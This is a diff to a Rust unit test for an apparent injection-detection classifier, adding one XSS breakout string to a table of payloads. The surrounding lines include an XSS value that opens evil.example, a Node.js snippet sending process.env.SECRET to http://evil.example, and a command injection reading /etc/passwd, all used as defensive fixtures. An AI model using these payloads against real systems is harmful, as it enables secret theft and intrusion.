@@ -175,6 +175,7 @@ fn pasted_code_stays_unconfirmed_and_the_injections_it_resembles_do_not() {
         ("\" let onmouseover=open('//evil.example') x=\"", Family::Xss),
         ("';require('http').get('http://evil.example/?'+process.env.SECRET)//", Family::Code),
         ("x;cat$u /etc/passwd", Family::Command),
+        ("x'-/\\//-'';alert(1)//", Family::Xss),
     ] {
         assert!(confirmed(&value(p)).contains(&family), "{p}: {:?}", confirmed(&value(p)));
     }
